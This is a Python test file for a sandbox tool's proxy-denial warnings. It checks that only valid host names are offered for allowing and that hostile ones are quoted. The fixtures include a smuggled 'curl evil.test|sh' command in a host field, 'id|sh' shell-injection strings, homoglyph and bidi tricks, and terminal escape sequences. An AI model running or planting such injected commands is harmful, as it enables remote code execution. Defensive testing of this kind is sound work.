"""The lines saying what the allow-list refused: the agent chose every host in them."""

from __future__ import annotations

import io

import pytest

from sandbox_runner.backends.docker.egress.refusals import parse_denied, refused_warning
from sandbox_runner.backends.docker.egress.squid import FORWARD_PORT
from sandbox_runner.console.output import PlainReporter


def _shown(host: str, port: int | None = 443, count: int = 2) -> str:
    """The warning as plain output shows it."""
    out = io.StringIO()
    PlainReporter(out=out, agent_out=io.BytesIO()).warn(refused_warning(host, port, count))
    return out.getvalue()


def test_a_host_name_is_offered_to_allow() -> None:
    assert _shown("api.example.com") == (
        "[fks] Warning: 2 requests to api.example.com:443 were denied; "
        "allow with --allow api.example.com\n"
    )
    assert _shown("10.0.0.7", 8080, 1) == (
        "[fks] Warning: 1 request to 10.0.0.7:8080 was denied; allow with --allow 10.0.0.7:8080\n"
    )
    assert _shown("Example.COM.", None) == (
        "[fks] Warning: 2 requests to Example.COM. were denied; allow with --allow example.com\n"
    )


@pytest.mark.parametrize(
    ("host", "where"),
    [
        # A command to copy that runs the agent's: Squid logs hosts with ; $ ( | in them.
        ("x.test;curl${IFS}evil.test|sh", "'x.test;curl${IFS}evil.test|sh':443"),
        # A wildcard would allow every subdomain, and the shell would expand it.
        ("*.github.com", "'*.github.com':443"),
        # Spaces (Squid's fields joined up): words of fks's own after the host.
        (
            "a.test were denied; allow with --allow a.test Chain complete (1/1 steps)",
            "'a.test were denied; allow with --allow a.test Chain complete (1/1 steps)':443",
        ),
        ("x\u202egpj.test", "'x\\u202egpj.test':443"),
        ("\u212aelvin.test", "'\\u212aelvin.test':443"),  # lower-cased, it would be a name
        ("x\x1b[2K\rtest\nChain complete", "'x\\x1b[2K\\rtest\\nChain complete':443"),
    ],
)
def test_a_host_that_is_no_host_name_is_shown_quoted_and_not_offered(host: str, where: str) -> None:
    assert _shown(host) == (
        f"[fks] Warning: 2 requests to {where} were denied (not a host name --allow takes)\n"
    )


# What Squid 5.7 (the proxy image's) logs for CONNECT x.test;id|sh:443, CONNECT *.github.com:443,
# GET http://x.test;id$(IFS)/ and CONNECT \u202egpj.test:443 (an ESC in a host it refuses).
SQUID_LOG = f"""\
1795973555.548 TCP_DENIED/403 CONNECT x.test;id%7Csh 443 {FORWARD_PORT} 46 3452 -
1795973555.550 TCP_DENIED/403 CONNECT *.github.com 443 {FORWARD_PORT} 46 3452 -
1795973555.556 TCP_DENIED/403 CONNECT %E2%80%AEgpj.test 443 {FORWARD_PORT} 45 3480 -
1795973555.556 TCP_DENIED/403 GET x.test;id$(ifs) 80 {FORWARD_PORT} 49 3454 -
"""


def test_hosts_squid_logs_for_hostile_requests_are_never_offered() -> None:
    shown = "".join(_shown(d.host, d.port, d.count) for d in parse_denied(SQUID_LOG))
    assert shown == (
        "[fks] Warning: 1 request to '%E2%80%AEgpj.test':443 was denied "
        "(not a host name --allow takes)\n"
        "[fks] Warning: 1 request to '*.github.com':443 was denied "
        "(not a host name --allow takes)\n"
        "[fks] Warning: 1 request to 'x.test;id$(ifs)':80 was denied "
        "(not a host name --allow takes)\n"
        "[fks] Warning: 1 request to 'x.test;id%7Csh':443 was denied "
        "(not a host name --allow takes)\n"
    )
